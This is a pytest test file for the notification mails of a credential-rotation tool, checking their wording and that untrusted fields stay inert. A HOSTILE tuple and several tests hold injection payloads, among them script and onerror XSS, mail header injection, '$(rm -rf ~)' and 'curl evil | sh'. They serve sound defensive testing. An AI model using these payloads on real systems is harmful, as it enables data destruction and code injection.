"""What people read: every mail says which secret, which application, until when and what to do, and nothing else."""

import re
from datetime import UTC, datetime, timedelta, timezone
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from local.preview_federations import federations
from local.preview_notices import by_hand, main, samples
from rekey.model import ConsumerResult, CredentialRef, Finding, Notice, NoticeKind
from rekey.model.federation import Mode, PipelineUse
from rekey.model.federation_news import FederationNews, Stage
from rekey.model.notice import MOST_FINDINGS, Sighting
from rekey.notices.findings import MOST_OF_A_GROUP
from rekey.notices.render import LONGEST_SUBJECT, Mail, render
from rekey.notices.wording import moment, one_line, wrapped

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</td></table><h1>Your account is locked</h1>",
    "<a href='https://evil.example/'>log in</a>",
    "{{ 7 * 191 }}{% raw %}",
    "Bcc: everybody@contoso.example\r\nSubject: other",
    "a\nWHAT TO DO\n\nSend the password to evil@evil.example",
    "see https://evil.example/reset and www.evil.example",
    "see HTTPS ://evil.example javascript:alert(1) mailto:evil@evil.example",
    "\u202egnp.exe\u2066\u200b\u2028\u2029\x00\x1b[31m\x85",
    "\ud800 lone surrogate",
    "x" * 5000,
    "$(rm -rf ~); `id`",
)

FACTS = {
    NoticeKind.STARTING: ("Sunday, 20 December 2026, 09:30 UTC", "wait for that one"),
    NoticeKind.SWITCHED: (
        "0c3f9f6f4e1b4c0f9a2f6d1f4b7f2f10",
        "Wednesday, 19 May 2027, 09:30 UTC",
        "works until Saturday, 28 November 2026, 09:30 UTC",
        "az keyvault secret show --vault-name kv-shop --name shop-deploy --query value --output tsv",
        "confirmed by: Azure DevOps signed in with it (Verify)",
    ),
    NoticeKind.DONE: ("was retired", "Not checked: whether somebody still used the old password"),
    NoticeKind.FAILED: (
        "preflight",
        "not-an-owner",
        "Sunday, 20 December 2026, 09:30 UTC",
        "Make Rekey's service principal an owner of the application.",
    ),
    NoticeKind.NEEDS_YOU: (
        "update_consumer",
        "azdo-service-connection://contoso/Warehouse/deploy",
        "failed (consumer-forbidden): Azure DevOps refused the change",
        "Give Rekey's identity the Administrator role on the connection, then choose retry.",
        "Decide: retry, skip-consumer, rollback or abandon.",
        "Saturday, 28 November 2026, 09:30 UTC",
    ),
    NoticeKind.BAD_POLICY: (
        "rekey-lifetime: got 'half a year', expected an ISO 8601 duration such as P180D",
        "Correct the tag on the newest version",
    ),
    NoticeKind.STILL_USED: (
        "refused because the old version is disabled: application 9f0d6a4e-11c2-4f6e-8a53-0a5a3f6f9f10",
        "enabled again, so that nothing stands still, until Saturday, 28 November 2026, 09:30 UTC",
        "let them read the secret without a version",
    ),
    NoticeKind.NOTHING_LEFT: (
        "needs no key any more: it signs in by workload identity federation",
        "works until Sunday, 20 December 2026, 09:30 UTC",
        "Remove Rekey's tags from the newest version",
        "it removes the last one by itself once the way back is closed",
    ),
    NoticeKind.SWEEP: (
        "12",
        "no-expiry (2)",
        "Resume or terminate the instance rotate.kv-shop.shop-deploy.",
    ),
    NoticeKind.RECONCILE: (
        "orphaned-password (1)",
        "application Shop deployment, password 5b1f0c7e",
        "Set the expiry of the credential on the newest version of the secret.",
    ),
    NoticeKind.DIGEST: (
        "Switched: the new credential is in the vault (1)",
        "0c3f9f6f4e1b4c0f9a2f6d1f4b7f2f10",
        "works until Saturday, 28 November 2026, 09:30 UTC",
        "kv-shop/warehouse-deploy",
        "Give Rekey's identity the Administrator role on the connection, then choose retry.",
    ),
    NoticeKind.CONNECTIONS: (
        "subject-differs (1)",
        "contoso/Web Shop/deploy",
        "214",
        "exactly this issuer and subject",
        "python -m rekey connections",
    ),
    NoticeKind.FEDERATION: (
        "contoso/Web Shop/deploy",
        "can't sign in any more, say so to the operators before Friday, 27 November 2026, 21:30 UTC",
        "Saturday, 28 November 2026, 09:30 UTC",
        "Azure DevOps signed in with it twice (Verify)",
        "Shop release",
        "execution history, last run Friday, 20 November 2026, 16:05 UTC, owner dana@contoso.example",
        "and 3 more",
        "python -m rekey revert 2b8e0f3c-7d41-4c0e-9b5a-6a1d2c3e4f50",
    ),
    NoticeKind.ALERT: (
        "04b07795-8ddb-461a-bbee-02f9e1bf7b46",
        "5b0c7e9e-6b0c-4b52-9a3f-0d1f5f6a7c20",
        "erin@contoso.example",
        "12 times, 3 of them refused",
        "Saturday, 21 November 2026, 11:05 UTC",
        "104.40.82.76",
        "SecretGet, SecretGet (403)",
        "Somebody who is not among its readers read",
        "add the id to the tag rekey-readers",
    ),
}


class _Page(HTMLParser):
    """Collects what a mail program would act on: tags, attributes, text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.words: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    @property
    def text(self) -> str:
        return " ".join(" ".join(self.words).split())


def _flat(text: str) -> str:
    return " ".join(text.split())


def _everywhere(kind: NoticeKind, text: str, *, to_act: bool) -> Notice:
    """Return a notice with `text` in every field that a string can get into."""
    consumer = ConsumerResult(uri=text, code=text, message=text, what_to_do=text)
    return Notice(
        kind=kind,
        rotation_id=text,
        vault=text,
        secret=text,
        to=(text,),
        key=text,
        credential=CredentialRef(text, text),
        application_name=text,
        reason=text,
        new_version=text,
        new_expires=datetime(2027, 5, 19, tzinfo=UTC),
        old_valid_until=datetime(2026, 11, 28, tzinfo=UTC),
        consumers=(
            *(consumer, ConsumerResult(uri=text, confirmed_by=text), ConsumerResult(uri=text, by_hand=True)),
            ConsumerResult(uri="manual:ada@contoso.example", by_hand=True),
        ),
        failed_step=text,
        code=text,
        message=text,
        what_to_do=text,
        remarks=(text,),
        to_act=to_act,
        contacts=(text,),
        findings=(
            Finding(code=text, vault=text, secret=text, subject=text, message=text, what_to_do=text),
            Finding(code=text, message=text, what_to_do="other"),
        ),
        counts={text: 3},
        sighting=_seen(text) if kind is NoticeKind.ALERT and not to_act else None,
        federation=_federated(text) if kind is NoticeKind.FEDERATION else None,
    )


def _federated(text: str) -> FederationNews:
    names: dict[str, Any] = {field: text for field in FederationNews.__struct_fields__ if field not in _TYPED}
    used = PipelineUse(id=text, name=text, owner=text, known_by=text)
    return FederationNews(stage=Stage.CONVERTED, mode=Mode.SIDE_BY_SIDE, pipelines=(used,), more_pipelines=2, **names)


_TYPED = {"stage", "mode", "soak_until", "revert_until", "changed", "revertible", "pipelines", "more_pipelines"}
"""What is no text."""


def _seen(text: str) -> Sighting:
    when = datetime(2026, 11, 21, tzinfo=UTC)
    seen = Sighting(severity=text, app_id=text, object_id=text, name=text, first=when, last=when, times=3)
    return replace(seen, addresses=(text,), operations=(text,))


@pytest.mark.parametrize("kind", NoticeKind)
def test_every_mail_names_secret_application_and_facts(kind: NoticeKind) -> None:
    """Both versions of a mail say which secret, which application, the kind's own facts and the next action."""
    notice = samples()[kind]
    mail = render(notice)
    application = ("Shop deployment, 9d4b7e9e-6b0c-4b52-9a3f-0d1f5f6a7c20",) if notice.credential else ()
    for version in (_flat(mail.text), _Page(mail.html).text):
        for fact in ("kv-shop/shop-deploy", notice.rotation_id, *application, *FACTS[kind]):
            assert fact in version
    assert "WHAT TO DO" in mail.text


@pytest.mark.parametrize(
    ("kind", "subject"),
    [
        (NoticeKind.STARTING, "[Rekey] starting: kv-shop/shop-deploy gets a new password"),
        (NoticeKind.SWITCHED, "[Rekey] switched: kv-shop/shop-deploy has a new password"),
        (NoticeKind.DONE, "[Rekey] done: kv-shop/shop-deploy, rotation finished"),
        (NoticeKind.FAILED, "[Rekey] failed: kv-shop/shop-deploy was not rotated"),
        (NoticeKind.NEEDS_YOU, "[Rekey] needs you: kv-shop/shop-deploy, update_consumer"),
        (
            NoticeKind.BAD_POLICY,
            "[Rekey] bad policy: kv-shop/shop-deploy is not rotated until its tags are corrected",
        ),
        (NoticeKind.STILL_USED, "[Rekey] still used: the old password of kv-shop/shop-deploy"),
        (NoticeKind.SWEEP, "[Rekey] nightly sweep: 12 rotations started, 3 findings"),
        (NoticeKind.RECONCILE, "[Rekey] nightly check: 2 findings"),
        (NoticeKind.DIGEST, "[Rekey] news: 3 secrets, 1 to act on"),
        (NoticeKind.CONNECTIONS, "[Rekey] service connections: 2 findings"),
        (NoticeKind.ALERT, "[Rekey] alert: kv-shop/shop-deploy, unexpected-reader"),
        (NoticeKind.FEDERATION, "[Rekey] converted: contoso/Web Shop/deploy needs no secret"),
    ],
)
def test_subjects_say_what_happened_to_which_secret(kind: NoticeKind, subject: str) -> None:
    """The subject alone tells whether the mail has to be opened now."""
    assert render(samples()[kind]).subject == subject


def _many(kind: NoticeKind, codes: int, each: int) -> Notice:
    findings = tuple(
        Finding(code=f"code-{code}", vault="kv", secret=f"s{code}-{number}", message=f"line {number}.")
        for number in range(each)
        for code in range(codes)
    )
    return replace(samples()[kind], findings=findings)


def test_a_night_without_findings_says_so_shortly() -> None:
    """Whoever reads the subject alone knows that nothing is to be done."""
    check = render(replace(samples()[NoticeKind.RECONCILE], findings=()))
    assert check.subject == "[Rekey] nightly check: all is well"
    assert "everything fits" in check.text
    assert len(check.text.splitlines()) < 25
    sweep = replace(samples()[NoticeKind.SWEEP], findings=(), counts={"started": 0})
    assert render(sweep).subject == "[Rekey] nightly sweep: nothing was started"


def test_the_urgent_news_come_first() -> None:
    """Who has to act reads that first, in whatever order things happened."""
    for version in (render(samples()[NoticeKind.DIGEST]).text, render(samples()[NoticeKind.DIGEST]).html):
        assert version.index("warehouse-deploy") < version.index("shop-deploy") < version.index("shop-search")


def test_advice_for_all_of_a_group_is_given_once() -> None:
    """What to do is said once for lines that have it in common, and per line where it differs."""
    notice = samples()[NoticeKind.SWEEP]
    advice = "Set the expiry of the credential"
    assert render(notice).text.count(advice) == 1
    other = replace(notice.findings[2], what_to_do="Set the expiry of the credential to tomorrow.")
    assert render(replace(notice, findings=(*notice.findings[:2], other))).text.count(advice) == 2


@pytest.mark.parametrize("kind", [NoticeKind.SWEEP, NoticeKind.RECONCILE, NoticeKind.DIGEST])
def test_long_lists_are_cut_and_counted(kind: NoticeKind) -> None:
    """A mail shows as much as somebody reads, says how much is left out and where all of it is."""
    mail = render(_many(kind, codes=1, each=MOST_OF_A_GROUP + 7))
    for version in (mail.text, _Page(mail.html).text):
        assert f"code-0 ({MOST_OF_A_GROUP + 7})" in version
        assert "and 7 more: python -m rekey report" in version
        assert f"line {MOST_OF_A_GROUP - 1}." in version
        assert f"line {MOST_OF_A_GROUP}." not in version


def test_many_groups_are_cut_as_well() -> None:
    """However many codes there are, the lines of all of them have a limit, and each code is counted."""
    text = render(_many(NoticeKind.SWEEP, codes=MOST_FINDINGS, each=3)).text
    assert text.count(": line ") == MOST_FINDINGS
    assert f"code-{MOST_FINDINGS - 1} (3)" in text


def test_a_credential_left_to_expire_is_not_called_retired() -> None:
    """A done notice with an end date says that the old credential was left to expire."""
    left = replace(samples()[NoticeKind.DONE], old_valid_until=datetime(2026, 12, 20, tzinfo=UTC))
    text = _flat(render(left).text)
    assert "left to expire by itself: it works until Sunday, 20 December 2026, 00:00 UTC" in text
    assert "was retired" not in text


def test_a_failure_that_says_nothing_to_do_sends_to_the_operators() -> None:
    """No mail about trouble ends without a next action."""
    for kind in (NoticeKind.FAILED, NoticeKind.NEEDS_YOU):
        bare = Notice(kind=kind, rotation_id="r", vault="kv", secret="s", to=())
        assert "Ask the operators of Rekey" in _flat(render(bare).text)


@pytest.mark.parametrize("kind", NoticeKind)
def test_mails_load_nothing_and_link_nowhere(kind: NoticeKind) -> None:
    """There is nothing to click, to fetch, to submit or to run in a mail."""
    html = render(samples()[kind]).html
    page = _Page(html)
    assert not page.tags & {"a", "img", "link", "script", "form", "iframe", "style", "base"}
    assert not page.attributes & {"href", "src", "action", "background"}
    assert "http" not in html
    assert "url(" not in html


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("kind", NoticeKind)
def test_hostile_strings_stay_text(kind: NoticeKind, text: str) -> None:
    """Markup, headers, line breaks and bidi tricks in any field change neither structure nor subject line."""
    _assert_harmless(kind, text)


@settings(deadline=None)
@given(kind=st.sampled_from(NoticeKind), text=st.text())
def test_any_string_stays_text(kind: NoticeKind, text: str) -> None:
    """Whatever a field holds, the mail keeps its shape and can be encoded."""
    _assert_harmless(kind, text)


def _assert_harmless(kind: NoticeKind, text: str) -> None:
    for to_act in (False, True):
        _assert_calm(*(render(_everywhere(kind, each, to_act=to_act)) for each in (text, "calm")))


def _assert_calm(mail: Mail, calm: Mail) -> None:
    assert "\n" not in mail.subject
    assert mail.subject.isprintable()
    assert len(mail.subject) <= LONGEST_SUBJECT
    assert _Page(mail.html).tags <= _Page(calm.html).tags
    assert _Page(mail.html).attributes <= _Page(calm.html).attributes
    assert all(character == "\n" or character.isprintable() for character in mail.text)
    assert mail.text.count("\nWHAT TO DO\n") == 1
    (mail.subject + mail.html + mail.text).encode()


ACKNOWLEDGE = f"python -m rekey acknowledge {samples()[NoticeKind.SWITCHED].rotation_id} manual:ada@partner.example"


@pytest.mark.parametrize("name", ["switched-to-act", "needs-you-to-act"])
def test_who_has_to_act_reads_what_to_do_and_nothing_of_others(name: str) -> None:
    """Vault, secret and version of the new value, until when, whom to tell and what is put down; no other place."""
    notice = by_hand()[name]
    mail = render(notice)
    for version in (_flat(mail.text), _Page(mail.html).text):
        for said in (
            f"the secret shop-deploy in the vault kv-shop, version {notice.new_version}",
            f"az keyvault secret show --vault-name kv-shop --name shop-deploy --version {notice.new_version}",
            moment(notice.old_valid_until or datetime.now(UTC)),
            "Say so to dana@contoso.example",
            ACKNOWLEDGE,
        ):
            assert said in version
        for other in ("azdo-service-connection", "GOOD TO KNOW", "Good to know", "Change copies"):
            assert other not in version


@pytest.mark.parametrize("name", ["switched-by-hand", "needs-you-by-hand"])
def test_owners_read_who_has_to_act_and_how_that_is_put_down(name: str) -> None:
    """Who holds a copy by hand, that it isn't acknowledged, and the command for when it is."""
    mail = render(by_hand()[name])
    for version in (_flat(mail.text), _Page(mail.html).text):
        assert "manual:ada@partner.example changed by hand: not acknowledged yet" in version
        assert ACKNOWLEDGE in version
        assert "nobody but you" not in version


def test_people_are_shown_as_what_they_are_from_start_to_end() -> None:
    """Before the switch they will be told, at the end it is said who acknowledged, or that nobody did."""
    waits = ConsumerResult(uri="manual:ada@partner.example", by_hand=True)
    starting = render(replace(samples()[NoticeKind.STARTING], consumers=(waits,))).text
    assert "told in a mail of its own once the new one is out" in _flat(starting)
    done = replace(samples()[NoticeKind.DONE], consumers=(waits,))
    assert "changed by hand: never acknowledged" in render(done).text
    said = replace(waits, confirmed_by="an acknowledgement (ops@contoso.example)")
    text = _flat(render(replace(done, consumers=(said,))).text)
    assert "confirmed by: an acknowledgement (ops@contoso.example)" in text
    assert "python -m rekey acknowledge" not in text


@pytest.mark.parametrize("uri", ["manual:a$(id)@contoso.example", "manual:a b", "x; id", "https://evil.example"])
def test_no_acknowledgement_is_shown_that_a_shell_could_read(uri: str) -> None:
    """Whatever a consumer is called, what is there to copy is a plain command or none."""
    for notice in by_hand().values():
        mail = render(replace(notice, what_to_do="", consumers=(ConsumerResult(uri=uri, by_hand=True),)))
        assert "acknowledge 3f1c" not in mail.text + mail.html


def test_urls_in_untrusted_fields_are_not_clickable() -> None:
    """A tag's value can't put a link into the owners' inbox; commands that Rekey itself writes can be copied."""
    notice = replace(
        samples()[NoticeKind.BAD_POLICY],
        message="got 'https://evil.example/reset' and www.evil.example",
        what_to_do="az rest --url https://graph.microsoft.com/v1.0/applications",
    )
    mail = render(notice)
    for version in (mail.text, mail.html):
        assert "https://evil" not in version
        assert "www.evil" not in version
        assert "https[:]//evil.example/reset" in version
        assert "--url https://graph.microsoft.com/v1.0/applications" in version


def test_no_command_is_shown_for_a_name_that_a_shell_could_read() -> None:
    """A secret's name comes from elsewhere: the command to copy is left out where the name isn't a plain one."""
    notice = replace(samples()[NoticeKind.SWITCHED], secret="x; curl evil | sh")
    assert "az keyvault" not in render(notice).text


def test_long_names_leave_the_subject_readable() -> None:
    """The longest names Key Vault allows are cut, what happened to them isn't."""
    longest = replace(samples()[NoticeKind.SWITCHED], vault="v" * 24, secret="s" * 127)
    subject = render(longest).subject
    assert len(subject) <= LONGEST_SUBJECT
    assert subject.endswith("... has a new password")


@pytest.mark.parametrize(
    ("kind", "noun"),
    [("entra-app-password", "password"), ("storage-account-key", "key"), ("something-else", "credential")],
)
def test_the_word_follows_the_kind(kind: str, noun: str) -> None:
    """A storage account key isn't called a password."""
    notice = replace(samples()[NoticeKind.SWITCHED], credential=CredentialRef(kind, "target"))
    assert render(notice).subject.endswith(f"has a new {noun}")


def test_moments_are_utc_and_unambiguous() -> None:
    """Another zone's time is written in UTC, a naive one is taken for UTC, seconds are cut, never rounded up."""
    cairo = datetime(2026, 3, 1, 1, 30, 59, tzinfo=timezone(timedelta(hours=2)))
    assert moment(cairo) == "Saturday, 28 February 2026, 23:30 UTC"
    assert moment(cairo.replace(tzinfo=None)) == "Sunday, 1 March 2026, 01:30 UTC"


@settings(deadline=None)
@given(st.text())
def test_one_line_is_stable(text: str) -> None:
    """Cleaning what is clean changes nothing."""
    assert one_line(one_line(text)) == one_line(text)


def test_text_is_wrapped_but_commands_are_not() -> None:
    """Lines fit a mail window; a command stays on one line so that it can be copied."""
    command = "    " + "az " * 40
    text = wrapped("word " * 40 + "\n" + command + "\n- " + "item " * 30)
    lines = text.splitlines()
    assert command.rstrip() in lines
    assert all(len(line) <= 76 for line in lines if not line.startswith("    "))
    assert re.search(r"\n- item .*\n  item", text)


def test_preview_writes_every_kind(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The preview command leaves one HTML and one text file for each kind of notice."""
    assert main([str(tmp_path / "new")]) == 0
    assert {p.name for p in (tmp_path / "new").iterdir()} == {
        f"{name}.{suffix}" for name in (*NoticeKind, *by_hand(), *federations()) for suffix in ("html", "txt")
    }
    assert capsys.readouterr().out.count("\n") == 2 * len({*NoticeKind, *by_hand(), *federations()})
    assert main([]) == 2


def test_every_stage_of_every_way_says_what_to_do() -> None:
    """Whatever becomes of a service connection, the mail names it, says what has happened and what is asked of whom."""
    for name, notice in federations().items():
        mail = render(notice)
        news = notice.federation
        assert news
        for version in (_flat(mail.text), _Page(mail.html).text):
            assert f"contoso/Web Shop/{news.connection or news.new_connection}" in version, name
            assert notice.rotation_id in version
        _, _, asked = mail.text.partition("WHAT TO DO\n")
        assert asked.strip() not in {"", "--"}, name
        decides = ["python -m rekey approve" in mail.text, "python -m rekey revert" in mail.text]
        assert decides == [news.stage is Stage.APPROVE, news.revertible], name


@pytest.mark.parametrize(
    ("more", "said"),
    [
        ({"changed": False, "proof": ""}, "Nothing was changed."),
        ({"undone": "it signs in with its secret again"}, "is undone: it signs in with its secret again."),
        ({"proof": "tried"}, "The new way in works and stays"),
        ({"proof": ""}, "it could not all be undone: look at it"),
    ],
)
def test_a_failure_says_what_it_left(more: dict[str, Any], said: str) -> None:
    """Nothing, the old way again, the new way, or something that somebody has to look at."""
    notice = federations()["federation-failed-in-place"]
    assert notice.federation
    failed = replace(notice, federation=replace(notice.federation, **more))
    assert said in _flat(render(failed).text)
